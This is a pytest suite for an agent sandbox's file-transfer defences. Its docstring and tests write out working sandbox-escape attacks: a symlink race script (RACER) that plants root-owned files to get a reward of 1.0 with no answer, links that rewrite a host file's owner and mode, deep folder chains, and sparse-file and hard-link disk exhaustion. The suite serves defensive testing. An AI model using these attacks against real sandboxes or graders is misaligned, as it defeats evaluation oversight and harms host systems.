"""Transfers: the host copies in and out through descriptors, follows no symlink, and stops at limits.

The attacks, found through Harbor's own trial code while a transfer was ``tar`` run as
root in the sandbox and ``tarfile`` on the host:

- the upload race: in shared mode Harbor uploads /logs/agent back as root while the
  agent's processes still run; one swapped a folder for a symlink mid-extraction and tar
  wrote the next files through it as root (a pyvenv.cfg beside /usr/local/bin/python3,
  a module in /tests): reward 1.0 with no answer;
- host files changed: a symlink to a host path in /logs/agent plus a hard link to that
  symlink made the host's extraction chown, chmod and re-time the host file;
- a folder chain 1,100 levels deep in /logs/agent or /logs/artifacts: copied whole, and
  ``tarfile.add`` (Harbor's artifact copy, the old upload) raised RecursionError on it;
- a sparse 1 GiB file (not a byte written) took 1.5 GiB of real blocks on the host;
- hard links amplified downloads: a 256 MiB file and 7 hard links to it in /logs/agent
  came down as 8 full copies, 1 GiB of the host's disk and 8 times the data limit's share.

Each defence has a test, and a mutation that swaps the old tar transfers back in
(:class:`TarTransfers`) to show the attack then wins; for hard links (which tar kept) the
mutation turns off the download's look-up of inodes it met already.
"""

from __future__ import annotations

import errno
import hashlib
import logging
import os
import re
import shlex
import stat
import subprocess
import tarfile
import tempfile
from pathlib import Path, PurePosixPath

import pytest

from sandboxes import environment, run, running
from waiting import wait_until_async

from orharbor.harbor_env import BubblewrapEnvironment, transfer
from orharbor.verifiers.removal import remove_path

#: The chain the red team planted, and the depth a download keeps of it.
CHAIN = 1100
#: Apparent size of the sparse file: past nothing but the data it would cost without holes.
SPARSE_MIB = 200
#: Folders the race swaps, each holding a file to slow tar down and the file it plants.
RACE_FOLDERS = 60
#: The racer, as the agent: every real folder of /logs/agent becomes a symlink into a root-only folder, and back
#: (for 600 s at most, far longer than the uploads it races take; the sandbox's stop ends it).
RACER = f"""import os, time
os.chdir("/logs/agent")
names = ["d%02d" % i for i in range({RACE_FOLDERS})]
moved = 0
end = time.time() + 600
while time.time() < end:
    for name in names:
        try:
            if os.path.islink(name):
                os.unlink(name)
                os.mkdir(name)
            else:
                moved += 1
                os.rename(name, ".old%d" % moved)
                os.symlink("/usr/local/bin", name)
        except OSError:
            pass
"""
#: A chain the old download copies whole (3 times the depth limit; tarfile's filter takes a minute for 1,100).
SHORT_CHAIN = 200
#: Makes a folder chain (argv[2] levels) under the folder argv[1], a file at its end.
MAKE_CHAIN = """import os, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
for _ in range(int(sys.argv[2])):
    os.mkdir("d", dir_fd=fd)
    child = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = child
os.close(os.open("leaf", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
"""
#: The agent's logs folder, as Harbor's agent phase leaves it.
LOGS = "mkdir -p /logs/agent && chown agent:agent /logs/agent"
#: The file of the hard-link attack, in MiB of real data (holes are free already), and its 8 names: the first
#: ("a" sorts first, so it is copied first) in a subfolder, the 7 links beside that folder and in another.
LINKED_MIB = 64
LINK_NAMES = ["a/b/f", "l1", "l2", "l3", "l4", "z/l5", "z/l6", "z/l7"]


# ---------------------------------------------------------------------- the mutation: the old tar transfers


class TarTransfers(BubblewrapEnvironment):
    """The defence removed: transfers as they were, ``tar`` as root in the sandbox and ``tarfile`` on the host."""

    async def upload_file(self, source_path, target_path):
        target = PurePosixPath(target_path)
        await _tar_upload(self, Path(source_path), str(target.parent), target.name)

    async def upload_dir(self, source_dir, target_dir):
        await _tar_upload(self, Path(source_dir), target_dir, ".")

    async def download_dir(self, source_dir, target_dir):
        target = Path(target_dir)
        target.mkdir(parents=True, exist_ok=True)
        with tempfile.NamedTemporaryFile(dir=self._scratch, suffix=".tar") as archive:
            result = await self._run(
                ["tar", "-c", "-f", "-", "-C", source_dir, "--", "."],
                cwd="/",
                env=None,
                timeout_sec=600,
                user="root",
                stdout=Path(archive.name),
            )
            assert result.return_code == 0, result.stderr
            with tarfile.open(archive.name) as tar:
                tar.extractall(target, filter=_host_filter)


async def _tar_upload(env: BubblewrapEnvironment, source: Path, target_dir: str, arcname: str) -> None:
    with tempfile.NamedTemporaryFile(dir=env._scratch, suffix=".tar") as archive:
        with tarfile.open(fileobj=archive, mode="w") as tar:
            tar.add(source, arcname=arcname)
        archive.flush()
        quoted = shlex.quote(target_dir)
        result = await env._run(
            ["sh", "-c", f"mkdir -p -- {quoted} && tar -x --no-same-owner -f - -C {quoted}"],
            cwd="/",
            env=None,
            timeout_sec=600,
            user="root",
            stdin=Path(archive.name),
        )
    if result.return_code != 0:
        raise RuntimeError(f"upload of {source} to {target_dir} failed: {result.stderr}")


def _host_filter(member, dest_path):
    if member.isdev():
        return None
    member = tarfile.tar_filter(member, dest_path)
    return member.replace(uid=os.getuid(), gid=os.getgid(), uname="", gname="", deep=False)


# ---------------------------------------------------------------------- helpers


class Warnings(logging.Handler):
    """The warnings an environment's logger gives."""

    def __init__(self, env: BubblewrapEnvironment) -> None:
        super().__init__(logging.WARNING)
        self.messages: list[str] = []
        env.logger.addHandler(self)

    def emit(self, record: logging.LogRecord) -> None:
        self.messages.append(record.getMessage())


def _depth(folder: Path, name: str = "d") -> int:
    """How many levels the chain of folders ``name`` under ``folder`` goes down (walked without recursion)."""
    fd, depth = os.open(folder, os.O_RDONLY | os.O_DIRECTORY), 0
    try:
        while True:
            try:
                child = os.open(name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=fd)
            except FileNotFoundError:
                return depth
            os.close(fd)
            fd, depth = child, depth + 1
    finally:
        os.close(fd)


def _host_chain(folder: Path, levels: int) -> None:
    """A chain of ``levels`` folders ``d`` under ``folder``, made without recursion."""
    folder.mkdir(parents=True)
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(levels):
        os.mkdir("d", dir_fd=fd)
        child = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = child
    os.close(fd)


async def _root(env: BubblewrapEnvironment, command: str) -> str:
    result = await env.exec(command, user="root")
    assert result.return_code == 0, result.stderr
    return result.stdout or ""


# ---------------------------------------------------------------------- 1. the upload race


def _race_source(folder: Path) -> Path:
    """The host copy of /logs/agent: folders each holding a file, then the pyvenv.cfg to plant."""
    source = folder / "agent-logs"
    for index in range(RACE_FOLDERS):
        sub = source / f"d{index:02d}"
        sub.mkdir(parents=True)
        (sub / "a.bin").write_bytes(b"\0" * (256 << 10))
        (sub / "pyvenv.cfg").write_text("home = /tmp/planted\ninclude-system-site-packages = true\n")
    return source


def _race(tmp_path: Path, cls: type[BubblewrapEnvironment], tries: int) -> tuple[list[str], str]:
    """Upload the logs back as root while the racer runs; what each try raised, and what /usr/local/bin holds."""
    source = _race_source(tmp_path)

    async def body():
        async with running(environment(tmp_path, cls=cls)) as (env,):
            await _root(env, LOGS)
            await env.exec(
                f"cd /logs/agent && mkdir {' '.join(f'd{i:02d}' for i in range(RACE_FOLDERS))} && "
                f"cat > /tmp/racer.py <<'EOF'\n{RACER}EOF\n"
                "setsid python3 /tmp/racer.py >/dev/null 2>&1 &",
                user="agent",
            )

            async def racing() -> bool:
                return ".old" in await _root(env, "ls -A /logs/agent || true")

            await wait_until_async(racing, "the racer's first swap")
            raised = []
            for _ in range(tries):
                try:
                    await env.upload_dir(source, "/logs/agent")
                    raised.append("")
                except RuntimeError as exc:
                    raised.append(str(exc))
                if "pyvenv.cfg" in await _root(env, "ls /usr/local/bin"):
                    break
            return raised, await _root(env, "ls -l /usr/local/bin")

    return run(body())


@pytest.mark.sandbox
def test_an_upload_racing_a_folder_swap_never_writes_through_the_symlink(tmp_path):
    """A folder swapped for a symlink into /usr/local/bin is refused or harmless: nothing lands there, 3 times."""
    raised, listing = _race(tmp_path, BubblewrapEnvironment, tries=3)
    assert "pyvenv.cfg" not in listing and "a.bin" not in listing, listing
    assert len(raised) == 3
    for message in raised:
        assert message == "" or re.match(
            r"/logs/agent/d\d\d in the sandbox (is a symlink or not a folder: a "
            r"transfer never follows one|kept vanishing)",
            message,
        ), raised


@pytest.mark.sandbox
def test_with_tar_the_upload_race_plants_a_root_file_beside_python(tmp_path):
    """Mutation: tar -x as root writes the next member through the swapped-in symlink (within 3 tries)."""
    raised, listing = _race(tmp_path, TarTransfers, tries=3)
    assert "pyvenv.cfg" in listing, (raised, listing)
    assert any(
        line.startswith("-") and line.split()[2:4] == ["root", "root"] and line.endswith("pyvenv.cfg")
        for line in listing.splitlines()
    ), listing


# ---------------------------------------------------------------------- 2. host files through links


def _links_to_host(tmp_path: Path, cls: type[BubblewrapEnvironment]) -> tuple[os.stat_result, Path]:
    """The agent links a host file from /logs/agent (a symlink and a hard link to it); the logs are downloaded."""
    victim = tmp_path / "host-secret"
    victim.write_text("host data\n")
    os.chown(victim, 4242, 4242)
    victim.chmod(0o640)
    os.utime(victim, (1_000_000_000, 1_000_000_000))
    down = tmp_path / "down"

    async def body():
        async with running(environment(tmp_path, cls=cls)) as (env,):
            await _root(env, LOGS)
            made = await env.exec(
                f"cd /logs/agent && ln -s {shlex.quote(str(victim))} link && ln -P link hard && "
                "echo answer > notes.txt",
                user="agent",
            )
            assert made.return_code == 0, made.stderr
            await env.download_dir("/logs/agent", down)

    run(body())
    return victim.stat(), down


@pytest.mark.sandbox
def test_links_to_a_host_file_leave_the_host_file_alone(tmp_path):
    """Absolute symlinks (and hard links to them) are not recreated: the host file keeps owner, mode and time."""
    after, down = _links_to_host(tmp_path, BubblewrapEnvironment)
    assert (after.st_uid, stat.S_IMODE(after.st_mode), after.st_mtime) == (4242, 0o640, 1_000_000_000)
    assert sorted(os.listdir(down)) == ["notes.txt"]


@pytest.mark.sandbox
def test_with_tarfile_the_hard_link_to_the_symlink_rewrites_the_host_files_owner_and_mode(tmp_path):
    """Mutation: tarfile hard-links through the symlink, then chowns, chmods and re-times the host file."""
    after, _ = _links_to_host(tmp_path, TarTransfers)
    assert after.st_uid == os.getuid() != 4242
    assert stat.S_IMODE(after.st_mode) != 0o640 and after.st_mtime != 1_000_000_000


# ---------------------------------------------------------------------- 3. a folder chain 1,100 levels deep


@pytest.mark.sandbox
def test_a_1100_level_chain_downloads_to_the_depth_limit_and_uploads_back_without_recursion(tmp_path):
    """The download stops at 64 levels with a warning; a 1,100-level host tree uploads, cut at 64 too."""
    down, deep = tmp_path / "down", tmp_path / "deep"

    async def body():
        async with running(environment(tmp_path)) as (env,):
            warnings = Warnings(env)
            await _root(env, LOGS)
            await env.exec(
                f"cat > /tmp/chain.py <<'EOF'\n{MAKE_CHAIN}EOF\npython3 /tmp/chain.py /logs/agent {CHAIN}", user="agent"
            )
            await env.download_dir("/logs/agent", down)
            _host_chain(deep, CHAIN)
            await env.upload_dir(deep, "/srv/deep")
            levels = await _root(
                env,
                "python3 -c \"import os; n = 0\nwhile os.path.isdir('/srv/deep' + '/d' * (n + 1)): n += 1\nprint(n)\"",
            )
            return warnings.messages, int(levels)

    try:
        messages, uploaded = run(body())
        assert _depth(down) == transfer.MAX_DEPTH == 64
        assert uploaded == 64
        assert [m for m in messages if "depth limit (64 folder levels)" in m] == [
            "download of /logs/agent: 1 folder past the depth limit (64 folder levels) skipped",
            f"upload of {deep} to /srv/deep: 1 folder past the depth limit (64 folder levels) skipped",
        ]
    finally:
        remove_path(str(down))
        remove_path(str(deep))


@pytest.mark.sandbox
def test_with_tar_a_chain_comes_down_whole_and_a_1100_level_upload_raises_recursion_error(tmp_path):
    """Mutation: no depth limit (a 200-level chain reaches the host whole); tarfile.add, as in Harbor's artifact
    copy, recurses out on 1,100 levels."""
    down, deep = tmp_path / "down", tmp_path / "deep"

    async def body():
        async with running(environment(tmp_path, cls=TarTransfers)) as (env,):
            await _root(env, LOGS)
            await env.exec(
                f"cat > /tmp/chain.py <<'EOF'\n{MAKE_CHAIN}EOF\npython3 /tmp/chain.py /logs/agent {SHORT_CHAIN}",
                user="agent",
            )
            await env.download_dir("/logs/agent", down)
            _host_chain(deep, CHAIN)
            with pytest.raises(RecursionError):
                await env.upload_dir(deep, "/srv/deep")

    try:
        run(body())
        assert _depth(down) == SHORT_CHAIN > transfer.MAX_DEPTH
    finally:
        remove_path(str(down))
        remove_path(str(deep))


# ---------------------------------------------------------------------- 4. host disk


def _sparse(tmp_path: Path, cls: type[BubblewrapEnvironment]) -> os.stat_result:
    down = tmp_path / "down"

    async def body():
        async with running(environment(tmp_path, cls=cls)) as (env,):
            await _root(env, LOGS)
            await env.exec(
                f"truncate -s {SPARSE_MIB}M /logs/agent/sparse.bin && printf x >> /logs/agent/sparse.bin", user="agent"
            )
            await env.download_dir("/logs/agent", down)

    run(body())
    return (down / "sparse.bin").stat()


@pytest.mark.sandbox
def test_a_sparse_file_stays_sparse_on_the_host(tmp_path):
    """Holes are copied as holes: a 200 MiB file with one byte written takes a few KiB of the host's disk."""
    st = _sparse(tmp_path, BubblewrapEnvironment)
    assert st.st_size == (SPARSE_MIB << 20) + 1
    assert st.st_blocks * 512 < 1 << 20


@pytest.mark.sandbox
def test_with_tar_the_sparse_file_fills_the_hosts_disk(tmp_path):
    """Mutation: tar -c without --sparse sends every zero, and the host writes them all."""
    st = _sparse(tmp_path, TarTransfers)
    assert st.st_blocks * 512 >= SPARSE_MIB << 20


@pytest.mark.sandbox
def test_past_a_limit_the_rest_is_skipped_with_a_warning_and_nothing_raises(tmp_path, monkeypatch):
    """A file past 256 MiB is skipped; past the entry or data limit the rest is; each limit is named once."""
    monkeypatch.setattr(transfer, "MAX_ENTRIES", 8)
    monkeypatch.setattr(transfer, "MAX_BYTES", 1 << 20)

    async def body():
        async with running(environment(tmp_path)) as (env,):
            warnings = Warnings(env)
            await _root(
                env,
                LOGS + " && mkdir /logs/many /logs/data && truncate -s 1G /logs/agent/huge.bin && "
                "echo small > /logs/agent/small.txt && touch /logs/many/f{0,1,2,3,4,5,6,7,8,9} && "
                "head -c 600K /dev/urandom > /logs/data/a && cp /logs/data/a /logs/data/b",
            )
            for name in ("agent", "many", "data"):
                await env.download_dir(f"/logs/{name}", tmp_path / name)
            return warnings.messages

    messages = run(body())
    assert sorted(os.listdir(tmp_path / "agent")) == ["small.txt"]
    assert len(os.listdir(tmp_path / "many")) == 8
    assert sorted(os.listdir(tmp_path / "data")) == ["a"]
    assert messages == [
        "download of /logs/agent: 1 file past the file size limit (256 MiB per file) skipped",
        "download of /logs/many: stopped at the entry limit (8 entries); the rest is skipped",
        "download of /logs/data: stopped at the data limit (1 MiB); the rest is skipped",
    ]


# ---------------------------------------------------------------------- 5. hard links


def _refused_link(*args, **kwargs):
    raise OSError(errno.EMLINK, "Too many links")


def _hard_links(tmp_path: Path, mib: int = LINKED_MIB, *, refuse_links: bool = False) -> tuple[Path, str, list[str]]:
    """The agent writes ``mib`` MiB of random data and 7 hard links to it in /logs/agent, then the logs are
    downloaded (with ``refuse_links``, the host's os.link failing): the host folder, the file's sha256 in the
    sandbox, and the warnings."""
    down = tmp_path / "down"
    links = " && ".join(f"ln a/b/f {name}" for name in LINK_NAMES[1:])

    async def body():
        async with running(environment(tmp_path)) as (env,):
            warnings = Warnings(env)
            await _root(env, LOGS)
            made = await env.exec(
                f"cd /logs/agent && mkdir -p a/b z && head -c {mib}M /dev/urandom > a/b/f && "
                f"{links} && echo notes > notes.txt && sha256sum a/b/f",
                user="agent",
            )
            assert made.return_code == 0, made.stderr
            with pytest.MonkeyPatch.context() as patch:  # only around the download: starting a sandbox links too
                if refuse_links:
                    patch.setattr(os, "link", _refused_link)
                await env.download_dir("/logs/agent", down)
            return made.stdout.split()[0], warnings.messages

    digest, messages = run(body())
    return down, digest, messages


def _files(top: Path) -> list[str]:
    return sorted(str(path.relative_to(top)) for path in top.rglob("*") if not path.is_dir())


def _disk(paths: list[Path]) -> int:
    """The bytes of disk the files ``paths`` take, each inode counted once."""
    inodes = {(st.st_dev, st.st_ino): st.st_blocks * 512 for st in map(os.stat, paths)}
    return sum(inodes.values())


def _sha256(path: Path) -> str:
    with path.open("rb") as file:
        return hashlib.file_digest(file, "sha256").hexdigest()


def _assert_one_inode(down: Path, digest: str) -> None:
    """All 8 names came down as one host inode, one copy's worth of disk, with the sandbox's data."""
    names = [down / name for name in LINK_NAMES]
    assert _files(down) == sorted([*LINK_NAMES, "notes.txt"])
    stats = [os.stat(path) for path in names]
    assert len({(st.st_dev, st.st_ino) for st in stats}) == 1
    assert [st.st_nlink for st in stats] == [8] * 8
    assert stats[0].st_size == LINKED_MIB << 20
    assert LINKED_MIB << 20 <= _disk(names) < (LINKED_MIB + 1) << 20
    assert _sha256(names[-1]) == digest and (down / "notes.txt").read_text() == "notes\n"


@pytest.mark.sandbox
def test_a_file_with_7_hard_links_comes_down_once_as_8_host_links(tmp_path):
    """The attack: 64 MiB and 7 hard links to it. The host gets the 8 names as one inode (nlink 8), one copy's
    disk, the right data, and no warning."""
    down, digest, messages = _hard_links(tmp_path)
    _assert_one_inode(down, digest)
    assert messages == []


@pytest.mark.sandbox
def test_hard_links_cost_nothing_against_the_data_limit(tmp_path, monkeypatch):
    """With a data limit of 1.5 copies, the second copy would not fit: all 8 names still arrive, as links."""
    monkeypatch.setattr(transfer, "MAX_BYTES", (LINKED_MIB << 20) * 3 // 2)
    down, digest, messages = _hard_links(tmp_path)
    _assert_one_inode(down, digest)
    assert messages == []


@pytest.mark.sandbox
def test_without_the_inode_look_up_the_hard_links_come_down_as_8_copies(tmp_path, monkeypatch):
    """Mutation: every name looks new, so each is copied whole: 8 host inodes, 8 times the disk."""
    monkeypatch.setattr(transfer._Copy, "_repeat", lambda self, st: False)
    down, digest, _ = _hard_links(tmp_path)
    names = [down / name for name in LINK_NAMES]
    stats = [os.stat(path) for path in names]
    assert len({(st.st_dev, st.st_ino) for st in stats}) == 8
    assert [st.st_nlink for st in stats] == [1] * 8
    assert _disk(names) >= 8 * (LINKED_MIB << 20)
    assert all(_sha256(path) == digest for path in names)


@pytest.mark.sandbox
@pytest.mark.parametrize("case", ["first copy skipped", "link refused"])
def test_a_hard_link_that_cannot_be_linked_is_skipped_with_a_warning_never_copied(tmp_path, monkeypatch, case):
    """The first name past the file size limit: its 7 links are skipped too, named in a warning, nothing of the
    file copied. The host refusing the link (EMLINK): the first copy stays, the links are skipped the same way."""
    if case == "first copy skipped":
        monkeypatch.setattr(transfer, "MAX_FILE_SIZE", 1 << 20)
    down, digest, messages = _hard_links(tmp_path, mib=2, refuse_links=case == "link refused")
    skipped = (
        "download of /logs/agent: 7 hard links skipped, as their file was not downloaded or could not be "
        "linked to: /logs/agent/l1, /logs/agent/l2, /logs/agent/l3 and 4 more"
    )
    if case == "first copy skipped":
        assert _files(down) == ["notes.txt"]
        assert messages == [
            "download of /logs/agent: 1 file past the file size limit (1 MiB per file) skipped",
            skipped,
        ]
    else:
        assert _files(down) == ["a/b/f", "notes.txt"]
        assert _sha256(down / "a/b/f") == digest and os.stat(down / "a/b/f").st_nlink == 1
        assert messages == [skipped]


# ---------------------------------------------------------------------- docker cp's semantics, kept


@pytest.mark.sandbox
def test_uploads_are_root_owned_with_modes_kept(tmp_path):
    """As docker cp: files and folders root's, permission bits kept (tests/ stays 0700/0600), setuid dropped."""
    source = tmp_path / "tests"
    (source / "sub").mkdir(parents=True)
    (source / "test.sh").write_text("echo hi\n")
    (source / "test.sh").chmod(0o755)
    (source / "sub" / "expected.json").write_text("{}")
    (source / "sub" / "expected.json").chmod(0o600)
    (source / "tool").write_text("")
    (source / "tool").chmod(0o4755)
    (source / "sub").chmod(0o700)
    source.chmod(0o700)
    os.symlink("sub/expected.json", source / "link")

    async def body():
        async with running(environment(tmp_path)) as (env,):
            await _root(env, "mkdir -p /srv/logs/sub && chown -R agent:agent /srv/logs")
            await env.upload_dir(source, "/tests")
            await env.upload_dir(source, "/srv/logs")
            await env.upload_file(source / "test.sh", "/opt/new/parent/run.sh")
            return await _root(
                env,
                "stat -c '%U %a %n' /tests /tests/test.sh /tests/sub /tests/sub/expected.json "
                "/tests/tool /srv/logs /srv/logs/sub /opt/new /opt/new/parent/run.sh; "
                "readlink /tests/link",
            )

    assert run(body()).splitlines() == [
        "root 700 /tests",
        "root 755 /tests/test.sh",
        "root 700 /tests/sub",
        "root 600 /tests/sub/expected.json",
        "root 755 /tests/tool",
        "agent 755 /srv/logs",  # the target that was there keeps its owner and mode (docker cp's "src/." rule)
        "root 700 /srv/logs/sub",  # a folder inside it takes the source's metadata, as docker cp gives it
        "root 755 /opt/new",
        "root 755 /opt/new/parent/run.sh",
        "sub/expected.json",
    ]


@pytest.mark.sandbox
def test_an_upload_through_a_symlinked_or_read_only_parent_is_refused_with_a_clear_message(tmp_path):
    """A symlink on the target's path is never followed; a read-only image path says so."""
    source = tmp_path / "pyvenv.cfg"
    source.write_text("home = /tmp\n")

    async def body():
        async with running(environment(tmp_path)) as (env,):
            await env.exec("ln -s /usr/local/bin /tmp/bin", user="agent")
            with pytest.raises(
                RuntimeError,
                match=r"^/tmp/bin in the sandbox is a symlink or not a folder: "
                r"a transfer never follows one$",
            ):
                await env.upload_file(source, "/tmp/bin/pyvenv.cfg")
            with pytest.raises(RuntimeError, match=r"^/tmp/bin in the sandbox is a symlink or not a folder"):
                await env.upload_dir(tmp_path, "/tmp/bin/sub")
            with pytest.raises(RuntimeError, match=r"failed at /usr/pyvenv.cfg: Read-only file system$"):
                await env.upload_file(source, "/usr/pyvenv.cfg")
            with pytest.raises(RuntimeError, match=r"'\.\.' is refused in a sandbox path"):
                await env.upload_file(source, "/tmp/../usr/local/bin/pyvenv.cfg")
            return await _root(env, "ls /usr/local/bin")

    assert "pyvenv.cfg" not in run(body())


@pytest.mark.sandbox
def test_downloads_keep_regular_files_and_links_inside_the_tree_only(tmp_path):
    """Hard links stay hard links; links inside stay links; links out, FIFOs and sockets are left out."""
    down = tmp_path / "down"

    async def body():
        async with running(environment(tmp_path)) as (env,):
            await env.exec(
                "cd /app && mkdir -p sub/deeper && echo hi > f && ln f sub/hard && ln -s f rel && "
                "ln -s ../f sub/up && ln -s ../../f sub/deeper/up2 && ln -s ../.. sub/out && "
                "ln -s sub/../../etc sub2 && ln -s /etc/passwd abs && mkfifo fifo && "
                "python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")'",
                user="agent",
            )
            await env.download_dir("/app", down)
            errors = []
            for path in ("/app/fifo", "/app/rel", "/app/sub", "/app/missing"):
                with pytest.raises(RuntimeError) as caught:
                    await env.download_file(path, tmp_path / "one")
                errors.append(str(caught.value))
            await env.download_file("/app/sub/hard", tmp_path / "one")
            return errors

    errors = run(body())
    assert sorted(os.listdir(down)) == ["f", "rel", "sub"]
    assert sorted(os.listdir(down / "sub")) == ["deeper", "hard", "up"]
    assert os.listdir(down / "sub" / "deeper") == ["up2"]
    assert (down / "sub" / "hard").read_text() == "hi\n" and (down / "f").stat().st_nlink == 2
    assert (down / "f").stat().st_ino == (down / "sub" / "hard").stat().st_ino
    assert os.readlink(down / "rel") == "f" and (down / "sub" / "deeper" / "up2").read_text() == "hi\n"
    assert stat.S_IMODE((down / "sub").stat().st_mode) == 0o755
    assert errors == [
        "/app/fifo in the sandbox is a FIFO, not a regular file: not downloaded",
        "/app/rel in the sandbox is a symlink, not a regular file: not downloaded",
        "/app/sub in the sandbox is a folder, not a regular file: not downloaded",
        "/app/missing: no such file in the sandbox",
    ]
    assert (tmp_path / "one").read_text() == "hi\n"


@pytest.mark.sandbox
def test_trees_deeper_than_the_open_folders_are_copied_whole_both_ways(tmp_path, monkeypatch):
    """With 2 folders open per side, a 10-level tree with files before and after each folder still copies whole."""
    monkeypatch.setattr(transfer, "MAX_OPEN_LEVELS", 2)
    source = tmp_path / "tree"
    folder = source
    for level in range(10):
        folder.mkdir(parents=True)
        (folder / "a").write_text(f"a{level}")
        (folder / "z").write_text(f"z{level}")
        folder = folder / "m"

    def files(top: Path) -> list[str]:
        return sorted(str(p.relative_to(top)) + "=" + p.read_text() for p in top.rglob("*") if p.is_file())

    async def body():
        async with running(environment(tmp_path)) as (env,):
            await env.upload_dir(source, "/srv/tree")
            await env.download_dir("/srv/tree", tmp_path / "back")

    run(body())
    assert files(tmp_path / "back") == files(source) and len(files(source)) == 20


def test_only_leading_dotdots_that_stay_inside_make_a_link_inside():
    """The lexical rule for links kept by a download: absolute, too many '..', or '..' after a name are out."""
    assert transfer.inside("f", 0) and transfer.inside("a/b", 0) and transfer.inside("../f", 1)
    assert transfer.inside("../../x/./y", 2)
    assert not transfer.inside("/etc/passwd", 5)
    assert not transfer.inside("../f", 0) and not transfer.inside("../../f", 1)
    assert not transfer.inside("sub/../f", 3)  # sub may itself be a link that climbs
    assert not transfer.inside("", 1)


def test_sandbox_paths_are_names_from_the_root_and_dotdot_is_refused():
    """'/a//b/./c' is three names; any '..' is refused before anything is opened."""
    assert transfer.sandbox_names("/a//b/./c/") == ["a", "b", "c"]
    assert transfer.sandbox_names("/") == []
    with pytest.raises(RuntimeError, match="'..' is refused"):
        transfer.sandbox_names("/logs/../etc")


def test_the_root_is_not_opened_through_a_pid_that_may_have_been_recycled():
    """When PID 1's pidfd says it has exited, its pid is not trusted, though a live process now holds it."""
    gone = subprocess.Popen(["true"])
    pidfd = os.pidfd_open(gone.pid)
    gone.wait()
    live = subprocess.Popen(["sleep", "30"])  # stands for the process that got the pid
    try:
        with pytest.raises(RuntimeError, match="PID 1 exited before its root could be opened"):
            transfer.open_root(live.pid, pidfd)
    finally:
        live.kill()
        live.wait()
        os.close(pidfd)
